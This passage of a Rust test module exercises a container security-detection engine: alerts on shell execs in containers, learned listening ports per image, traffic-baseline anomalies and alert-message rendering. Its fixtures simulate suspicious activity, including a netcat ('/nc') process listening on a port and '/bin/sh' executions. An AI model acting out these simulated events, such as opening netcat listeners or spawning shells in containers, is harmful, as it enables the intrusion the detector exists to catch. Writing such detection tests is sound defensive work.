        // The exec came before the runtime answered; the exit knows the image.
        assert!(e.on_event(&event("exec", "a", "/bin/sh", 0)).is_empty());
        let exit = in_container(event("container_exited", "a", "", 1), "c", "ci", &[]);
        assert!(e.on_event(&exit).is_empty());
        assert!(e.on_event(&event("exec", "b", "/bin/sh", 0)).is_empty());
        let exit = in_container(event("container_exited", "b", "", 1), "c", "web", &[]);
        let alerts = e.on_event(&exit);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].container.as_ref().unwrap().image, "web");
    }

    fn listen(cid: &str, image: &str, port: u32, t: i64) -> pb::Event {
        let mut ev = in_container(event("socket", cid, "/nc", t), "", image, &[]);
        if let Some(Body::Socket(s)) = &mut ev.body {
            s.local = Some(pb::Endpoint {
                port,
                ..Default::default()
            });
        }
        ev
    }

    #[test]
    fn new_value_learns_ports_per_image_from_its_first_container_then_alerts() {
        let logic = "  kind: new_value\n  condition: evt.kind = socket and socket.op = listen\n  key: [container.image]\n  value: socket.local.port\n  learn_seconds: 60\n";
        let mut e = Engine::new(vec![rule(logic, "")], "v".into());
        let started = in_container(
            pb::Event {
                time: Some(pbjson_types::Timestamp {
                    seconds: 0,
                    nanos: 0,
                }),
                container: Some(pb::Container {
                    id: "a1".into(),
                    ..Default::default()
                }),
                ..Default::default()
            }
            .with_body(Body::ContainerStarted(Default::default())),
            "",
            "web",
            &[],
        );
        assert!(e.on_event(&started).is_empty());
        let evs = [
            listen("a1", "web", 8080, 10),  // learning (clock started at 0)
            listen("a2", "web", 8080, 100), // known
            listen("a3", "web", 9999, 100), // new: fires
            listen("b1", "db", 9999, 100),  // another image, learning on its own clock
            listen("x", "", 9999, 100),     // no image known: neither learned nor judged
        ];
        assert_eq!(run(&mut e, &evs), [0, 0, 1, 0, 0]);
        let saved = e.learned();
        assert!(saved["T-1"]["web"].values.contains("8080"));
        assert!(!saved["T-1"].contains_key(""), "{saved:?}");
        assert!(e.learned_changed());
        assert!(!e.learned_changed());
        // A restarted engine restored from the saved state knows 8080 and is past learning.
        let mut again = Engine::new(vec![rule(logic, "")], "v".into());
        again.restore_learned(saved);
        assert_eq!(
            run(
                &mut again,
                &[listen("a4", "web", 8080, 200), listen("a5", "web", 7, 200)]
            ),
            [0, 1]
        );
    }

    #[test]
    fn baseline_fires_far_above_a_containers_own_traffic_and_says_by_how_much() {
        let logic = "  kind: baseline\n  condition: evt.kind = traffic\n  key: [container.id, traffic.peer.address]\n  value: traffic.bytes\n  factor: 10\n  floor: 1000000\n";
        let mut r = rule(logic, "");
        r.doc.output = "{traffic.bytes} bytes, baseline {baseline.mean}".into();
        let mut e = Engine::new(vec![r], "v".into());
        let traffic = |bytes: u64, t: i64| {
            pb::Event {
                time: Some(pbjson_types::Timestamp {
                    seconds: t,
                    nanos: 0,
                }),
                container: Some(pb::Container {
                    id: "a".into(),
                    ..Default::default()
                }),
                ..Default::default()
            }
            .with_body(Body::Traffic(pb::Traffic {
                bytes,
                peer: Some(pb::Endpoint {
                    address: "10.0.0.2".into(),
                    ..Default::default()
                }),
                ..Default::default()
            }))
        };
        let steady: Vec<pb::Event> = (1..=5).map(|t| traffic(100_000, t)).collect();
        assert_eq!(run(&mut e, &steady), [0; 5]);
        let alerts = e.on_event(&traffic(20_000_000, 6));
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].summary, "20000000 bytes, baseline 100000");
    }

    #[test]
    fn render_fills_fields_and_marks_missing_ones() {
        let ev = event("exec", "a", "/bin/sh", 0);
        assert_eq!(
            render("{proc.exe} in {container.id}: {socket.op}", &EventView(&ev)),
            "/bin/sh in a: <none>"
        );
        assert_eq!(
            render(
                "{socket.op|proc.exe}, {socket.op|evt.host}",
                &EventView(&ev)
            ),
            "/bin/sh, false"
        );
    }
}
